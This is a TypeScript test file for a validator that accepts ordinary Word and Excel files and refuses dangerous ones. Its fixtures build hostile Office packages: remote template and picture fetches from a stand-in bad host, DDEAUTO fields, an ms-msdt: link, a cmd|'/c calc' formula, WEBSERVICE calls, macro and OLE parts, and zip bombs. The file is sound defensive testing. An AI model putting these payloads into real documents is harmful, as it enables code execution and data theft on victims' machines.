import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { buildZip, type ZipPart } from '@painel-pj/test-bed/zip-file';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { sheetFile, textFile } from '#test/document-files.ts';
import { createTemporaryFolder, type TemporaryFolder } from '#test/temporary-folder.ts';
import { Refused } from './job.ts';
import { openOffice } from './open-office.ts';

let folder: TemporaryFolder;
beforeAll(async () => {
  folder = await createTemporaryFolder();
});
afterAll(() => folder.remove());

async function judge(content: Buffer): Promise<string> {
  const file = path.join(folder.path, 'arquivo');
  await writeFile(file, content);
  try {
    return (await openOffice(file)).extensao;
  } catch (error) {
    if (!(error instanceof Refused)) throw error;
    return `refused: ${error.reason}`;
  }
}

const format = 'application/vnd.openxmlformats-officedocument';
const main = `${format}.wordprocessingml.document.main+xml`;
const defaults =
  '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>';
const declaration = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const types = (more = '', header = declaration): ZipPart => ({
  name: '[Content_Types].xml',
  content: `${header}<Types>${defaults}<Override PartName="/word/document.xml" ContentType="${main}"/>${more}</Types>`,
  isPacked: true,
});
const document = (content: string): ZipPart => ({
  name: 'word/document.xml',
  content: `<w:document xmlns:w="w" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:r="r">${content}</w:document>`,
});
const body = document('');
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const rels = (tag: string): ZipPart => ({
  name: 'word/_rels/document.xml.rels',
  content: `<Relationships>${tag}</Relationships>`,
});
const template = `Type="${office}/attachedTemplate" Target="https://mau.exemplo/modelo.dotm"`;
const override = (type: string) => `<Override PartName="/word/x.bin" ContentType="${type}"/>`;

const run = (content: string) => `<w:r>${content}</w:r>`;
const mark = (kind: string) => run(`<w:fldChar w:fldCharType="${kind}"/>`);
const instruction = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
const field = (...inside: string[]) => `<w:p>${mark('begin')}${inside.join('')}${mark('end')}</w:p>`;

const workbook = (formula: string): ZipPart[] => [
  {
    name: '[Content_Types].xml',
    content: `<Types>${defaults}<Override PartName="/xl/workbook.xml" ContentType="${format}.spreadsheetml.sheet.main+xml"/></Types>`,
  },
  { name: 'xl/workbook.xml', content: '<workbook/>' },
  { name: 'xl/sheet1.xml', content: `<worksheet><c><f>${formula}</f></c></worksheet>` },
];
const pictures = (count: number) =>
  Array.from({ length: count }, (_, at) => ({ name: `word/media/${at}.png`, content: 'x' }));

test.each<[string, Buffer, string]>([
  ['a spreadsheet', sheetFile(), 'xlsx'],
  ['a text', textFile(), 'docx'],
  [
    'a text with a link',
    buildZip([
      types(),
      body,
      rels(
        `<Relationship Type="${office}/hyperlink" Target="https://a.exemplo?a=1&amp;b=2" TargetMode="External"/>`,
      ),
    ]),
    'docx',
  ],
  [
    'a text with styles',
    buildZip([types(), body, rels(`<Relationship Type="${office}/styles" Target="styles.xml"/>`)]),
    'docx',
  ],
  [
    'a text with numbered pages and contents',
    buildZip([
      types(),
      document(
        field(instruction(' PA'), instruction('GE '), mark('separate'), run('<w:t>1</w:t>')) +
          field(instruction(' TOC \\o '), field(instruction('NUMPAGES'))) +
          '<w:fldSimple w:instr=" FILENAME \\p "/>',
      ),
    ]),
    'docx',
  ],
  ['a spreadsheet that sums', buildZip(workbook('SUM(A1:A9)&amp;"a|b"')), 'xlsx'],
  ['a text of many pictures', buildZip([types(), body, ...pictures(700)]), 'docx'],
])('%s is taken', async (_what, content, kind) => {
  expect(await judge(content)).toBe(kind);
});

test.each<[string, ZipPart[]]>([
  ['a remote template', [types(), body, rels(`<Relationship ${template} TargetMode="External"/>`)]],
  ['one in other quotes', [types(), body, rels(`<Relationship ${template} TargetMode = 'external' />`)]],
  [
    'one behind a bracket',
    [types(), body, rels(`<Relationship Id="a>b" ${template} TargetMode="External"/>`)],
  ],
  [
    'one behind a false mode',
    [types(), body, rels(`<Relationship Id=" TargetMode='Internal'" ${template} TargetMode="External"/>`)],
  ],
  [
    'one behind a comment',
    [types(), body, rels(`<!-- " --><Relationship ${template} TargetMode="External"/>`)],
  ],
  ['one spelt by numbers', [types(), body, rels(`<Relationship ${template} TargetMode="&#69;xternal"/>`)]],
  [
    'one in UTF-16',
    [
      types(),
      body,
      {
        name: 'word/_rels/document.xml.rels',
        content: Buffer.from(`<Relationship ${template} TargetMode="External"/>`, 'utf16le'),
      },
    ],
  ],
  [
    'one in a list in capitals',
    [
      types(),
      body,
      { ...rels(`<Relationship ${template} TargetMode="External"/>`), name: 'WORD/_RELS/DOCUMENT.XML.RELS' },
    ],
  ],
  [
    'a remote picture',
    [
      types(),
      body,
      rels(`<Relationship Type="${office}/image" Target="http://mau.exemplo/a.png" TargetMode="External"/>`),
    ],
  ],
  [
    'a remote picture of an old drawing',
    [types(), document('<v:shape><v:imagedata src="http://mau.exemplo/a.png"/></v:shape>')],
  ],
  [
    'a link that starts a program',
    [
      types(),
      body,
      rels(`<Relationship Type="${office}/hyperlink" Target="ms-msdt:/id" TargetMode="External"/>`),
    ],
  ],
  ...['rtf', 'html', 'mht'].map((extension): [string, ZipPart[]] => [
    `a chunk of ${extension}`,
    [
      types(),
      document('<w:altChunk r:id="a"/>'),
      rels(`<Relationship Id="a" Type="${office}/aFChunk" Target="a.${extension}"/>`),
    ],
  ]),
  ['a type of a chunk', [types(override('application/rtf')), body]],
  ['another document', [types(), document('<w:subDoc r:id="a"/>')]],
  ['a query for letters', [types(), document('<w:mailMerge/>')]],
  ['DDEAUTO', [types(), document(field(instruction(' DDEAUTO c:\\\\a "b" ')))]],
  [
    'DDEAUTO in pieces',
    [types(), document(field(instruction('D'), instruction('de'), instruction('auto "a"')))],
  ],
  ['DDE without an end', [types(), document(`${mark('begin')}${instruction('DDE a b')}`)]],
  [
    'a command that another field spells',
    [types(), document(field(field(instruction('SYMBOL 68')), instruction(' PAGE')))],
  ],
  ['a simple field', [types(), document('<w:fldSimple w:instr="INCLUDETEXT a"/>')]],
  ['INCLUDEPICTURE', [types(), document(field(instruction('INCLUDEPICTURE "http://mau.exemplo/a.png"')))]],
  ['a formula that asks another program', workbook("cmd|'/c calc'!A0")],
  ['a formula that asks a server', workbook('_xlfn.WEBSERVICE("http://mau.exemplo")')],
  [
    'macros under another name',
    [types(override('application/vnd.ms-office.vbaProject')), body, { name: 'word/x.bin', content: 'x' }],
  ],
  [
    'a macro-enabled document',
    [types(override('application/vnd.ms-word.document.macroEnabled.main+xml')), body],
  ],
  ['a macro sheet', [types(override('application/vnd.ms-excel.macrosheet+xml')), body]],
  ['an embedded object', [types(override(`${format}.oleObject`)), body]],
  ['an embedded spreadsheet', [types(override(`${format}.spreadsheetml.sheet`)), body]],
  ['a control', [types(override('application/vnd.ms-office.activeX+xml')), body]],
  ['a link to another workbook', [types(override(`${format}.spreadsheetml.externalLink+xml`)), body]],
  ['a part of no type', [types(), body, { name: 'word/a.exe', content: 'MZ' }]],
  [
    'an OLE file that says nothing of it',
    [types(), body, { name: 'word/media/a.png', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') }],
  ],
  ['a type spelt by entities', [types('', '<!DOCTYPE Types [<!ENTITY v "vba">]>'), body]],
  ['XML that is not well formed', [types(), document('<w:p>')]],
  ['another encoding', [types('', '<?xml version="1.0" encoding="ISO-8859-1"?>'), body]],
  ['two parts of one name', [types(), body, body]],
  ['two parts of one name for Windows', [types(), body, { ...body, name: 'WORD\\document.xml' }]],
  ['a thousand parts', [types(), body, ...pictures(998)]],
  ['parts that share their bytes', [types(), body, { ...body, name: 'word/document.xm2', isShared: true }]],
  [
    'parts inside of one another',
    [
      types(),
      { name: 'word/a.png', content: Buffer.concat([Buffer.from('x'), buildZip([body])]) },
      { ...body, isShared: true },
    ],
  ],
  [
    'more than it declares',
    [types(), body, { name: 'a.xml', content: Buffer.alloc(2e6), isPacked: true, declared: 1000 }],
  ],
  [
    'less than it declares',
    [types(), body, { name: 'a.xml', content: Buffer.alloc(1000), isPacked: true, declared: 2000 }],
  ],
  [
    '500 times its size when it is opened',
    [types(), body, { name: 'a.png', content: Buffer.alloc(5e6), isPacked: true }],
  ],
  [
    '101 MB when it is opened',
    [types(), body, { name: 'a.png', content: '', declared: 101 * 1024 ** 2, isPacked: true }],
  ],
  [
    'a list of contents that is a bomb',
    [{ name: '[Content_Types].xml', content: Buffer.alloc(50e6), isPacked: true }],
  ],
  ['nothing an office program knows', [{ name: 'a.txt', content: 'x' }]],
])('%s is refused', async (_what, parts) => {
  expect(await judge(buildZip(parts))).toBe('refused: unsupported');
});

test('a part whose own header gives another name is refused', async () => {
  const zip = buildZip([types(), body]);
  zip.write('x', zip.indexOf('word/document.xml'));
  expect(await judge(zip)).toBe('refused: unsupported');
});

test('something between the parts is refused', async () => {
  const zip = buildZip([types(), body]);
  const at = zip.indexOf('PK\x01\x02');
  const hidden = Buffer.concat([zip.subarray(0, at), Buffer.alloc(100, '<script>'), zip.subarray(at)]);
  hidden.writeUInt32LE(at + 100, hidden.length - 6);
  expect(await judge(hidden)).toBe('refused: unsupported');
});
